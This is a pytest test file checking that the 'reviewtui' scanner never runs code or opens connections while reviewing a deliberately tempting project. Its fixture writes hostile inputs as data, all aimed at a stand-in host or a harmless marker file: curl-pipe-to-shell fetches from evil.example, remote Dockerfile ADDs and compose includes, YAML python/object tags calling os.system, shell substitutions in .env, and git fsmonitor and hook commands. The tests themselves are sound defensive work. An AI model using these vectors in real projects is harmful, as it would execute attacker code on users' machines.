"""reviewtui runs no code of the scanned project, starts no program and opens no
connection while it reads, checks and reports on a project made to tempt it.

The project points everywhere a careless reader would go: a BuildKit frontend in
``# syntax=``, remote build contexts, remote compose includes and extends, remote CI
includes and reusable workflows, daemon hosts on TCP; it carries YAML tags that build
Python objects, shell command substitutions in ``.env`` files and interpolations, and
Python files, a Makefile and git hooks that would leave a marker file if anything ran
them. While the pipeline runs (in this process, and through ``reviewtui scan`` in a
child process), every way to open a connection or start a program is a tripwire. No
tripwire fires, no marker appears, the project's files stay as they were, and no module
is imported from the project. (``--run-scanners`` is the one option that runs a program;
it stays off.)
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from reviewtui.checklists import load_catalogue
from reviewtui.detect.engine import detect
from reviewtui.project import read_project
from reviewtui.report import render
from reviewtui.review.session import ReviewSession
from reviewtui.tui.app import ReviewApp

MARKER = "PWNED"
"""The file any code run from the project would create (in the project's folder)."""


def _files(marker: Path) -> dict[str, str]:
    """The tempting project; every piece of code in it creates ``marker``."""
    touch = f"touch {marker}"
    python = f"open({str(marker)!r}, 'w').write('ran')\n"
    return {
        "Dockerfile": (
            "# syntax=evil.example/frontend:latest\n"
            "FROM evil.example/base:latest\n"
            "ADD https://evil.example/payload.tar.gz /\n"
            "ADD git@github.com:evil/repo.git /src\n"
            f"RUN curl -fsSL https://evil.example/install.sh | sh && {touch}\n"
            f"ONBUILD RUN {touch}\n"
            "RUN <<EOF python3\n"
            f"{python}"
            "EOF\n"
        ),
        "compose.yaml": (
            "include:\n"
            "  - https://evil.example/compose.yaml\n"
            "  - oci://evil.example/compose:latest\n"
            "  - git@github.com:evil/repo.git\n"
            "services:\n"
            "  web:\n"
            "    build: https://github.com/evil/repo.git#main\n"
            "    image: evil.example/app:latest\n"
            "    env_file: [https://evil.example/.env]\n"
            f"    command: ${{CMD:-$({touch})}}\n"
            "  child:\n"
            "    extends: {file: https://evil.example/base.yaml, service: web}\n"
            f'x-py: !!python/object/apply:os.system ["{touch}"]\n'
            f'x-py2: !!python/object/new:subprocess.Popen [["{touch}"]]\n'
        ),
        ".env": f"CMD=$({touch})\nOTHER=`{touch}`\n",
        ".gitlab-ci.yml": (
            "include:\n"
            "  - remote: https://evil.example/ci.yml\n"
            "  - project: evil/ci\n"
            "    file: /templates/x.yml\n"
            "  - template: Auto-DevOps.gitlab-ci.yml\n"
            "  - https://evil.example/inc.yml\n"
            f'build:\n  script: !!python/object/apply:os.system ["{touch}"]\n'
        ),
        ".github/workflows/build.yml": (
            "on: push\n"
            "jobs:\n"
            "  call:\n"
            "    uses: evil/actions/.github/workflows/x.yml@main\n"
            "  build:\n"
            "    runs-on: ubuntu-latest\n"
            "    steps:\n"
            "      - uses: docker://evil.example/img:latest\n"
            "      - uses: ./.github/actions/local\n"
            f"      - run: {touch}\n"
        ),
        ".github/actions/local/action.yml": f"runs:\n  using: composite\n  steps:\n"
        f"    - run: {touch}\n      shell: bash\n",
        "etc/docker/daemon.json": json.dumps(
            {"hosts": ["tcp://evil.example:2375"], "registry-mirrors": ["https://evil.example"]}
        ),
        "trivy-app.json": json.dumps({"SchemaVersion": 2, "ArtifactName": "evil.example/app"}),
        ".reviewtui.yaml": "waivers:\n  - item: runtime.not-privileged\n    reason: trust me\n",
        "setup.py": python,
        "conftest.py": python,
        "sitecustomize.py": python,
        "reviewtui_plugin.py": python,
        "Makefile": f"all:\n\t{touch}\n",
        ".git/config": f"[core]\n\tfsmonitor = {touch}\n\thooksPath = hooks\n",
        ".git/hooks/post-checkout": f"#!/bin/sh\n{touch}\n",
        "hooks/pre-commit": f"#!/bin/sh\n{touch}\n",
    }


@pytest.fixture
def tempting(tmp_path: Path) -> Path:
    """The tempting project, written fresh for each test (its tree is compared)."""
    root = tmp_path / "tempting"
    for rel, text in _files(root / MARKER).items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        if "hooks/" in rel:
            path.chmod(0o755)
    return root


def tree(root: Path) -> dict[str, tuple[int, int]]:
    """Every file and folder under ``root`` with its size and modification time."""
    return {
        path.relative_to(root).as_posix(): (path.lstat().st_size, path.lstat().st_mtime_ns)
        for path in root.rglob("*")
    }


class Tripwires:
    """Every way to open a connection or start a program, made to record the attempt
    and refuse it."""

    SOCKET_METHODS = ("connect", "connect_ex", "sendto", "sendmsg")
    SOCKET_FUNCTIONS = ("create_connection", "getaddrinfo", "gethostbyname")
    OS_FUNCTIONS = (
        "system",
        "popen",
        "posix_spawn",
        "posix_spawnp",
        "execv",
        "execve",
        "execvp",
        "execvpe",
        "spawnv",
        "spawnve",
        "spawnvp",
        "spawnvpe",
    )

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.fired: list[str] = []
        for name in self.SOCKET_METHODS:
            monkeypatch.setattr(socket.socket, name, self._wire(f"socket.{name}"))
        for name in self.SOCKET_FUNCTIONS:
            monkeypatch.setattr(socket, name, self._wire(f"socket.{name}"))
        for name in self.OS_FUNCTIONS:
            if hasattr(os, name):
                monkeypatch.setattr(os, name, self._wire(f"os.{name}"))
        monkeypatch.setattr(subprocess.Popen, "__init__", self._wire("subprocess.Popen"))

    def _wire(self, name: str) -> Any:
        def fired(*args: Any, **_kwargs: Any) -> Any:
            self.fired.append(f"{name}{args[1:3]!r}")
            raise PermissionError(f"tripwire: {name}")

        return fired


def test_the_tripwires_fire(monkeypatch: pytest.MonkeyPatch) -> None:
    wires = Tripwires(monkeypatch)

    with pytest.raises(PermissionError):
        socket.create_connection(("127.0.0.1", 9))
    with socket.socket() as sock, pytest.raises(PermissionError):
        sock.connect(("127.0.0.1", 9))
    with pytest.raises(PermissionError):
        subprocess.run(["true"], check=False)
    with pytest.raises(PermissionError):
        os.system("true")

    assert [fired.split("(")[0] for fired in wires.fired] == [
        "socket.create_connection",
        "socket.connect",
        "subprocess.Popen",
        "os.system",
    ]


def _project_modules(root: Path) -> list[str]:
    """Modules imported from files inside the project."""
    return [
        name
        for name, module in list(sys.modules.items())
        if str(getattr(module, "__file__", "") or "").startswith(str(root))
    ]


def test_reading_checking_and_reporting_run_nothing_and_connect_nowhere(
    tempting: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    catalogue = load_catalogue()
    before = tree(tempting)
    wires = Tripwires(monkeypatch)

    facts = read_project(tempting)
    findings = detect(catalogue, facts)
    session = ReviewSession.open(tempting, catalogue, autosave=False)
    session.scan()
    reports = [render(session, fmt) for fmt in ("markdown", "json", "sarif")]

    assert wires.fired == []
    assert not (tempting / MARKER).exists()
    assert tree(tempting) == before
    assert _project_modules(tempting) == []
    # It did read the project: the remote references are findings or problems, not calls.
    assert findings and all(report.strip() for report in reports)
    reasons = [p.reason for p in facts.problems if p.path == "compose.yaml"]
    assert "include of https://evil.example/compose.yaml is remote; not fetched, not read" in (
        reasons
    )
    assert "extends file https://evil.example/base.yaml is remote; not fetched, not read" in (
        reasons
    )


async def test_the_app_scans_and_walks_without_running_or_connecting(
    tempting: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    session = ReviewSession.open(tempting, review_path=tmp_path / "review.json")
    before = tree(tempting)
    wires = Tripwires(monkeypatch)
    app = ReviewApp(tempting, session)

    async with app.run_test(size=(100, 32)) as pilot:
        await app.workers.wait_for_complete()
        await pilot.pause()
        await pilot.press("enter", "n", "n", "1", "escape", "r")
        await app.workers.wait_for_complete()
        await pilot.pause()

    assert wires.fired == []
    assert not (tempting / MARKER).exists()
    assert tree(tempting) == before
    assert session.review.answers  # the answer was saved, outside the project


CHILD = """
import json, os, socket, subprocess, sys

fired = []


def wire(name):
    def fired_call(*args, **kwargs):
        fired.append(name)
        raise PermissionError("tripwire: " + name)
    return fired_call


for name in ("connect", "connect_ex", "sendto", "sendmsg"):
    setattr(socket.socket, name, wire("socket." + name))
for name in ("create_connection", "getaddrinfo", "gethostbyname"):
    setattr(socket, name, wire("socket." + name))
for name in ("system", "popen", "posix_spawn", "posix_spawnp", "execv", "execve", "execvp",
             "execvpe", "spawnv", "spawnve", "spawnvp", "spawnvpe", "fork"):
    if hasattr(os, name):
        setattr(os, name, wire("os." + name))
subprocess.Popen.__init__ = wire("subprocess.Popen")

from reviewtui.cli import main

status = main(sys.argv[1:])
sys.stderr.write("\\nTRIPWIRES " + json.dumps(fired) + "\\n")
sys.exit(status)
"""


@pytest.mark.parametrize("fmt", ["markdown", "json", "sarif"])
def test_reviewtui_scan_runs_nothing_and_connects_nowhere(tempting: Path, fmt: str) -> None:
    before = tree(tempting)

    result = subprocess.run(
        [sys.executable, "-c", CHILD, "scan", str(tempting), "--format", fmt, "-v"],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
        cwd=tempting,  # even from inside the project, its sitecustomize.py stays unread
    )

    assert result.returncode == 1, result.stderr
    assert result.stderr.rstrip().endswith("TRIPWIRES []"), result.stderr[-2000:]
    assert result.stdout.strip()
    assert not (tempting / MARKER).exists()
    assert tree(tempting) == before
